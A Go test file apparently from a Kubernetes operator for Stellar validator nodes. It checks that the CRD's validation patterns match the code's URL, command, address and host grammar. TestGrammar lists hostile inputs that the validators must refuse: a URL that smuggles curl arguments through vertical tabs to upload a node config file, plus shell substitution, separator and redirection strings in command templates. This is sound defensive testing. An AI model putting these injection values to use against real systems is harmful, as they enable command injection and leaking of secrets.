package v1alpha1

import (
	"os"
	"regexp"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"
)

// crdPatterns are the patterns of the generated CRD, by field path.
func crdPatterns(t *testing.T) map[string]string {
	t.Helper()
	data, err := os.ReadFile("../../config/crd/bases/stellar.org_stellarnodes.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var crd map[string]any
	if err := yaml.Unmarshal(data, &crd); err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	var walk func(path string, v any)
	walk = func(path string, v any) {
		switch t := v.(type) {
		case map[string]any:
			if p, ok := t["pattern"].(string); ok {
				out[path] = p
			}
			for k, child := range t {
				next := path
				if k != "properties" && k != "items" && k != "openAPIV3Schema" && k != "schema" {
					next = path + "." + k
				}
				walk(next, child)
			}
		case []any:
			for _, child := range t {
				walk(path, child)
			}
		}
	}
	walk("", crd["spec"].(map[string]any)["versions"])
	return out
}

// The API server enforces exactly the grammar the checker and render-config enforce.
func TestCRDPatternsAreTheGrammar(t *testing.T) {
	want := map[string]string{
		".spec.validatorConfig.historyArchiveUrls":                  URLPattern,
		".spec.validatorConfig.quorum.validators.historyArchiveUrl": URLPattern,
		".spec.validatorConfig.history.objectStorage.url":           URLPattern,
		".spec.validatorConfig.history.objectStorage.put":           CommandPattern,
		".spec.validatorConfig.history.objectStorage.mkdir":         CommandPattern,
		".spec.validatorConfig.knownPeers":                          AddressPattern,
		".spec.validatorConfig.externalPeer.advertisedAddress":      AddressPattern,
		".spec.validatorConfig.history.publicURL":                   URLPattern,
		".spec.validatorConfig.quorum.validators.address":           AddressPattern,
		".spec.validatorConfig.homeDomain":                          HostPattern,
		".spec.validatorConfig.quorum.validators.homeDomain":        HostPattern,
		".spec.validatorConfig.quorum.homeDomains.homeDomain":       HostPattern,
		".spec.image":                         ImagePattern,
		".spec.validatorConfig.seedSecretRef": ObjectNamePattern,
		".spec.validatorConfig.history.objectStorage.credentialsSecretRef": ObjectNamePattern,
	}
	got := crdPatterns(t)
	for path, pattern := range want {
		if got[path] != pattern {
			t.Errorf("%s: the CRD's pattern is %q, the grammar's %q", path, got[path], pattern)
		}
	}
	// No pattern of the CRD admits a space or a control character of any kind.
	for path, p := range got {
		re := regexp.MustCompile(p)
		for _, r := range []string{" ", "\t", "\n", "\v", "\f", "\r", "\u0085", "\u00a0", "\u2028", "\x00", "\x1b"} {
			if r == " " && (strings.HasSuffix(path, ".put") || strings.HasSuffix(path, ".mkdir")) {
				continue // single spaces separate a command's arguments
			}
			for _, probe := range []string{"a" + r + "a", "http://a" + r + "a", "a:1" + r} {
				if re.MatchString(probe) {
					t.Errorf("%s admits %q", path, probe)
				}
			}
		}
	}
}

// The CEL rule on a validator's version is the grammar's VersionPattern.
func TestVersionRuleIsTheGrammar(t *testing.T) {
	data, err := os.ReadFile("../../config/crd/bases/stellar.org_stellarnodes.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if want := "self.version.matches('" + VersionPattern + "')"; !strings.Contains(string(data), want) {
		t.Errorf("the CRD has no rule %s", want)
	}
}

// The hostile values of the issue that reported the leak, and their kin, are refused; the values
// users write are kept.
func TestGrammar(t *testing.T) {
	for _, bad := range []string{
		"http://127.0.0.1:1/x\v--data-binary\v@/etc/stellar/rendered/stellar-core.cfg\v-H\vx:",
		"http://a/x y", "http://a/x\ty", "http://a/{2}", "http://a/{0}", "http://a/(x)", "http://a/$(id)", "http://a/`id`",
		"http://a/x;y", "http://a/x|y", "http://a/x&y", "http://a/'x'", `http://a/"x"`, "http://a/x\\y", "ftp://a/x",
		"http://-a/x", "http://a/x\u00a0y", "http://a/x\u2028y",
	} {
		if err := ValidURL("url", bad); err == nil {
			t.Errorf("URL %q accepted", bad)
		}
	}
	for _, good := range []string{"https://history.stellar.org/prd/core-testnet/core_testnet_001", "http://validator-1-0.validator-1-headless.stellar.svc.cluster.local:11627",
		"https://storage.googleapis.com/bucket/core-1/", "http://127.0.0.1:9/archive"} {
		if err := ValidURL("url", good); err != nil {
			t.Errorf("URL %q refused: %v", good, err)
		}
	}
	for _, bad := range []string{"aws s3 cp {0} s3://b/{1} --endpoint-url=http://x", "cp  {0} {1}", "cp\v{0} {1}", "cp {0} {1} ",
		"sh -c x;y", "cp {2} {1}", "cp {0} '{1}'", "cp {0} $HOME/{1}", "cp {0} >{1}"} {
		if err := ValidCommand("put", bad); err == nil {
			t.Errorf("command %q accepted", bad)
		}
	}
	for _, good := range []string{"aws s3 cp {0} s3://bucket/core/{1}", "gsutil cp {0} gs://bucket/{1}", "mkdir -p /data/history/{0}"} {
		err := ValidCommand("put", good)
		if strings.Contains(good, " -p ") {
			if err == nil {
				t.Errorf("%q: an argument starting with - must be refused", good)
			}
			continue
		}
		if err != nil {
			t.Errorf("command %q refused: %v", good, err)
		}
	}
}

func TestUpgradeKeyPatternIsTheGrammar(t *testing.T) {
	data, err := os.ReadFile("../../config/crd/bases/stellar.org_stellarnetworkupgrades.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if want := "pattern: " + ConfigUpgradeSetKeyPattern; !strings.Contains(string(data), want) {
		t.Errorf("the CRD has no %s", want)
	}
	for _, bad := range []string{strings.Repeat("A", 86) + "=", strings.Repeat("A", 85) + "\v==", strings.Repeat("A", 85) + "&==", ""} {
		if ValidConfigUpgradeSetKey("key", bad) == nil {
			t.Errorf("key %q accepted", bad)
		}
	}
	if err := ValidConfigUpgradeSetKey("key", strings.Repeat("A", 86)+"=="); err != nil {
		t.Error(err)
	}
}
